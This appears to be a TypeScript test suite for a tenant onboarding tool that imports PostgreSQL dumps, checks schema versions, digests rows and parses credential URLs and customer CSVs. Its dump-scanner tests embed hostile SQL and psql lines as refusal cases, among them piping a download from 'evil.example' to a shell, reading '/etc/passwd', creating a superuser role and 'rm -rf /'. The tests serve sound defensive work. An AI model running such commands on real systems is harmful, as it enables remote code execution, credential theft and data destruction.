import * as fc from 'fast-check';
import { OnboardingError } from '../../common/errors';
import { parseTenantInput } from '../../common/tenant-input';
import { sourceCredentials } from '../../cli/import';
import { parseCustomers } from '../../cli/commands/import';
import { RowDigest, utcFieldsOf } from '../../workflow-tasks/import/digest';
import { scanDump, type DumpScan } from '../../workflow-tasks/import/dump';
import { detectVersion, requireVersion, type SchemaShape } from '../../workflow-tasks/import/schema';

/** A pg_dump 15 plain-format file as the seed's plan writes it (trimmed to two tables). */
const DUMP = String.raw`--
-- PostgreSQL database dump
--

\restrict Zuf1u8OaGoAwPShyIYh0eLRs

-- Dumped from database version 15.18 (Debian 15.18-0+deb12u1)

SET statement_timeout = 0;
SET client_encoding = 'UTF8';
SELECT pg_catalog.set_config('search_path', '', false);

CREATE FUNCTION public.touch() RETURNS trigger
    LANGUAGE plpgsql
    AS $$
BEGIN
  NEW.updated_at = now();
  RETURN NEW;
END;
$$;

CREATE TABLE public.products (
    id bigint NOT NULL,
    name text NOT NULL
);

ALTER TABLE public.products OWNER TO building_admin;

--
-- Data for Name: products; Type: TABLE DATA; Schema: public; Owner: building_admin
--

COPY public.products (id, name) FROM stdin;
1	Schraubenzieher Größe 3
2	tab\there, a backslash \\ and \N-looking text
3	\N
\.

COPY public.users (id, email) FROM stdin;
1	admin@shop.example
\.

COPY audit.events (id) FROM stdin;
7
\.

SELECT pg_catalog.setval('public.products_id_seq', 12, true);

GRANT SELECT ON TABLE public.products TO building_admin_reader;

--
-- PostgreSQL database dump complete
--

\unrestrict Zuf1u8OaGoAwPShyIYh0eLRs
`;

/** A dump's lines, as dumpLines hands them over (an async iterable). */
function linesOf(text: string): AsyncIterable<string> {
  const lines = text.split('\n');
  if (lines[lines.length - 1] === '') lines.pop();
  return (async function* () {
    for (const line of lines) yield await Promise.resolve(line);
  })();
}

const scan = (text: string) => scanDump(linesOf(text), 'imports/shop/20261206T120000Z.sql');

const failure = async (text: string): Promise<OnboardingError> => {
  const error = await scan(text).then(
    () => undefined,
    (e: unknown) => e,
  );
  expect(error).toBeInstanceOf(OnboardingError);
  return error as OnboardingError;
};

describe('a pg_dump, read by rule', () => {
  it('takes the rows of the COPY blocks of schema public, reads past everything else, and keeps the sequences', async () => {
    const rows: Record<string, string[]> = {};
    const found = await scanDump(linesOf(DUMP), 'dump', ({ name }) => {
      rows[name] = [];
      return Promise.resolve({
        row: (line: string) => void rows[name]!.push(line),
        end: () => Promise.resolve(),
      });
    });
    expect(found).toEqual<DumpScan>({
      tables: [
        { name: 'products', columns: ['id', 'name'], rows: 3 },
        { name: 'users', columns: ['id', 'email'], rows: 1 },
      ],
      ignored: ['audit.events'],
      sequences: { products_id_seq: 13 },
    });
    // Rows pass through exactly as COPY text: escapes untouched, a NULL as \N.
    expect(rows.products).toEqual([
      '1\tSchraubenzieher Größe 3',
      '2\ttab\\there, a backslash \\\\ and \\N-looking text',
      '3\t\\N',
    ]);
  });

  it.each([
    [
      'COPY ... TO PROGRAM',
      "COPY public.users (email) TO PROGRAM 'curl evil.example | sh';",
      /a dump's COPY must be COPY <table> \(<columns>\) FROM stdin/,
    ],
    [
      'COPY ... FROM PROGRAM',
      "COPY public.users (email) FROM PROGRAM 'cat /etc/passwd';",
      /must be COPY <table>/,
    ],
    ['COPY from a file', "COPY public.users FROM '/etc/passwd';", /must be COPY <table>/],
    ['CREATE ROLE', 'CREATE ROLE intruder SUPERUSER LOGIN;', /role statements are refused/],
    ['ALTER ROLE', "ALTER ROLE building_admin PASSWORD 'x';", /role statements are refused/],
    ['a shell escape', '\\! rm -rf /', /the psql meta-command "\\\\! rm -rf \/" is refused/],
    ['\\copy', "\\copy users to '/tmp/x'", /meta-command/],
    [
      'INSERT rows',
      "INSERT INTO public.users VALUES (2, 'a@b.example');",
      /make the dump with pg_dump's default COPY format/,
    ],
    ['another encoding', "SET client_encoding = 'LATIN1';", /only UTF-8 dumps are imported/],
  ])('refuses %s, naming the line', async (_what, statement, says) => {
    const text = DUMP.replace('SET statement_timeout = 0;', statement);
    const error = await failure(text);
    expect(error.name).toBe('ImportDumpRefused');
    expect(error.message).toMatch(/^dump imports\/shop\/20261206T120000Z\.sql, line 9: /);
    expect(error.message).toMatch(says);
  });

  it('refuses a table whose rows come twice', async () => {
    const text = DUMP.replace(
      'COPY audit.events',
      'COPY public.users (id, email) FROM stdin;\n2\tb@shop.example\n\\.\n\nCOPY audit.events',
    );
    expect((await failure(text)).message).toMatch(/table users has its rows twice/);
  });

  it('never runs a function body: a COPY ... PROGRAM inside one is read past', async () => {
    const text = DUMP.replace('  NEW.updated_at = now();', "  COPY users TO PROGRAM 'sh';");
    await expect(scan(text)).resolves.toMatchObject({ tables: [{ name: 'products' }, { name: 'users' }] });
  });

  it('follows quotes: a $$ in a string, $$ inside another dollar tag, a ; in a string do not end or start anything', async () => {
    const text = DUMP.replace(
      'SET statement_timeout = 0;',
      [
        "COMMENT ON TABLE public.products IS 'prices in $$; really';",
        'CREATE FUNCTION public.f() RETURNS text LANGUAGE sql AS $_$',
        "  SELECT '$$';",
        '  INSERT INTO public.users VALUES (9);',
        '$_$;',
        'SET statement_timeout = 0;',
      ].join('\n'),
    );
    await expect(scan(text)).resolves.toMatchObject({ tables: [{ name: 'products' }, { name: 'users' }] });
  });

  it('refuses a statement that never ends before it fills the memory', async () => {
    const text = DUMP.replace('SET statement_timeout = 0;', `SELECT '${'x'.repeat(1100 * 1024)}`);
    expect((await failure(text)).message).toMatch(/a statement runs past 1 MiB/);
  });

  it("reads past this platform's schema_migrations, taking the version it records", async () => {
    const text = DUMP.replace(
      'COPY audit.events',
      'COPY public.schema_migrations (version, name, checksum) FROM stdin;\n1\t0001_shop\tab\n2\t0002_auth\tcd\n\\.\n\nCOPY audit.events',
    );
    const found = await scan(text);
    expect(found.recordedVersion).toBe(2);
    expect(found.tables.map((t) => t.name)).toEqual(['products', 'users']);
  });

  it('refuses a dump cut off anywhere before its end (fast-check: every cut point)', async () => {
    const end = DUMP.indexOf('-- PostgreSQL database dump complete');
    await fc.assert(
      fc.asyncProperty(fc.integer({ min: 0, max: end - 1 }), async (cut) => {
        const error = await scan(DUMP.slice(0, cut)).then(
          () => undefined,
          (e: unknown) => e as Error,
        );
        // Cut off: said so. A cut inside a statement's first word can make it something the rules refuse.
        expect(['ImportDumpTruncated', 'ImportDumpRefused']).toContain(error?.name);
      }),
      { numRuns: 300 },
    );
    expect((await failure(DUMP.slice(0, DUMP.indexOf('2\ttab')))).message).toMatch(
      /is cut off: it ends inside the rows of table products/,
    );
  });
});

describe('the schema version of a source', () => {
  const shape = (tables: Record<string, Record<string, string>>): SchemaShape =>
    new Map(Object.entries(tables).map(([t, cs]) => [t, new Map(Object.entries(cs))]));
  const v1 = shape({ users: { id: 'bigint', email: 'text' }, orders: { id: 'bigint' } });
  const v2 = shape({
    users: { id: 'bigint', email: 'text', token_version: 'integer' },
    orders: { id: 'bigint' },
  });
  const v3 = v2; // a migration that changed no column (an index): the lowest version is the source's
  const shapes = new Map([
    [1, v1],
    [2, v2],
    [3, v3],
  ]);

  it('is the lowest version whose tables, columns and types are the source’s', () => {
    expect(detectVersion(v1, shapes)).toEqual({ version: 1 });
    expect(detectVersion(v2, shapes)).toEqual({ version: 2 });
    // A source made by our migrations says its version: it wins when it fits.
    expect(detectVersion(v2, shapes, 3)).toEqual({ version: 3 });
  });

  it('names the differences from the closest version when none fits', () => {
    const odd = shape({ users: { id: 'bigint', email: 'character varying(80)', colour: 'text' } });
    const detected = detectVersion(odd, shapes);
    expect(detected).toEqual({
      closest: 1,
      differences: [
        'column users.email is character varying(80), not text',
        'extra column users.colour (text)',
        'missing table orders',
      ],
    });
    expect(() => requireVersion(detected, 'the import source postgres://u@h:5432/db')).toThrow(
      'the import source postgres://u@h:5432/db matches no version of the shop schema; closest is version 1, which differs: column users.email is character varying(80), not text; extra column users.colour (text); missing table orders',
    );
  });

  it('takes a dump’s columns without types as any type', () => {
    expect(detectVersion(shape({ users: { id: '', email: '' }, orders: { id: '' } }), shapes)).toEqual({
      version: 1,
    });
  });
});

describe('the digest that compares a source with the tenant’s database', () => {
  it('does not depend on the order of the rows, nor on the zone a timestamp was written in', () => {
    const types = utcFieldsOf(['bigint', 'timestamp with time zone', 'text']);
    const a = new RowDigest(types);
    const b = new RowDigest(types);
    a.add('1\t2023-10-29 02:30:00.123456+02\tx');
    a.add('2\t2026-03-29 03:00:00+02\t\\N');
    b.add('2\t2026-03-29 01:00:00+00\t\\N');
    b.add('1\t2023-10-29 00:30:00.123456+00\tx');
    expect(b.rows).toBe(2);
    expect(b.hex).toBe(a.hex);
    const c = new RowDigest(types);
    c.add('1\t2023-10-29 02:30:00.123456+01\tx'); // an hour later: a different instant
    c.add('2\t2026-03-29 01:00:00+00\t\\N');
    expect(c.hex).not.toBe(a.hex);
  });

  it('tells a row missing, doubled or changed apart (fast-check)', () => {
    fc.assert(
      fc.property(fc.uniqueArray(fc.string(), { minLength: 1, maxLength: 20 }), fc.nat(), (rows, pick) => {
        const digest = (list: string[]) => {
          const d = new RowDigest([]);
          for (const r of list) d.add(r);
          return d.hex;
        };
        const whole = digest(rows);
        const i = pick % rows.length;
        expect(digest(rows.filter((_, j) => j !== i))).not.toBe(whole);
        expect(digest([...rows, rows[i]!])).not.toBe(whole);
        expect(digest(rows.map((r, j) => (j === i ? `${r}!` : r)))).not.toBe(whole);
      }),
    );
  });
});

describe('what tenantctl import takes', () => {
  it('reads a source URL into the secret’s fields, and never repeats it in an error', () => {
    expect(
      sourceCredentials(
        'postgres://building_admin:p%40ss%3Aw0rd@db.example:6432/building_shop?sslmode=require',
      ),
    ).toEqual({
      host: 'db.example',
      port: 6432,
      dbname: 'building_shop',
      username: 'building_admin',
      password: 'p@ss:w0rd',
      sslmode: 'require',
    });
    for (const bad of [
      'mysql://u:Secret-1@h/db',
      'postgres://u@h/db',
      'postgres://u:Secret-1@h',
      'not a url Secret-1',
      'postgres://u:Secret-1%zz@h/db',
    ]) {
      let message = '';
      try {
        sourceCredentials(bad, {});
      } catch (error) {
        message = (error as Error).message;
      }
      expect(message).toMatch(/^--from-url: must be postgres:\/\/user\[:password\]@host\[:port\]\/database/);
      expect(message).not.toContain('Secret-1');
    }
    // Without a password in the URL, PGPASSWORD gives it: then it is on no command line.
    expect(
      sourceCredentials('postgres://reader@db.example/shop', { PGPASSWORD: 'from-the-env' }),
    ).toMatchObject({
      username: 'reader',
      password: 'from-the-env',
      port: 5432,
    });
  });

  it('ties importFrom to the tenant, and to one source', () => {
    const base = { tenantId: 'corner-shop', companyName: 'Corner', adminEmail: 'a@corner.example' };
    const arn = (id: string) =>
      `arn:aws:secretsmanager:us-east-1:123456789012:secret:tenant-imports/${id}/20261206T120000Z-AbC123`;
    expect(parseTenantInput({ ...base, importFrom: { sourceSecretArn: arn('corner-shop') } }).ok).toBe(true);
    expect(
      parseTenantInput({ ...base, importFrom: { dumpKey: 'imports/corner-shop/20261206T120000Z.sql' } }).ok,
    ).toBe(true);
    const problems = (input: unknown) => {
      const parsed = parseTenantInput(input);
      return parsed.ok ? [] : parsed.problems;
    };
    expect(problems({ ...base, importFrom: { sourceSecretArn: arn('other-shop') } })).toEqual([
      'importFrom.sourceSecretArn: must be the ARN of a secret tenant-imports/corner-shop/<time> (tenantctl import makes it)',
    ]);
    expect(
      problems({
        ...base,
        importFrom: {
          sourceSecretArn:
            'arn:aws:secretsmanager:us-east-1:123456789012:secret:tenants/other/credentials-AbC123',
        },
      }),
    ).toHaveLength(1);
    expect(problems({ ...base, importFrom: { dumpKey: 'exports/corner-shop/x.sql' } })).toHaveLength(1);
    expect(problems({ ...base, importFrom: {} })).toEqual([
      'importFrom: needs exactly one of sourceSecretArn and dumpKey',
    ]);
    expect(
      problems({ ...base, importFrom: { dumpKey: 'imports/corner-shop/20261206T120000Z.sql', url: 'x' } }),
    ).toEqual(['importFrom."url": is not a known field']);
  });

  it('reads a customers CSV with quoting, and names the line of a mistake', () => {
    const rows = parseCustomers(
      'tenantId,companyName,adminEmail,domain,tier,source\r\nshop-a,"Shop A, ""the"" best",a@a.example,,shared,a.sql\r\n\r\n',
      'c.csv',
    );
    expect(rows).toEqual([
      {
        tenantId: 'shop-a',
        companyName: 'Shop A, "the" best',
        adminEmail: 'a@a.example',
        domain: '',
        tier: 'shared',
        source: 'a.sql',
      },
    ]);
    expect(() => parseCustomers('tenantId,companyName\n', 'c.csv')).toThrow(
      'c.csv: the first line must name the columns tenantId,companyName,adminEmail,domain,tier,source (missing adminEmail, domain, tier, source)',
    );
    expect(() =>
      parseCustomers(
        'tenantId,companyName,adminEmail,domain,tier,source\nshop-a,A,a@a.example,,,a.sql\nshop-a,A,a@a.example,,,b.sql\n',
        'c.csv',
      ),
    ).toThrow('c.csv, line 3: shop-a is listed twice');
  });
});
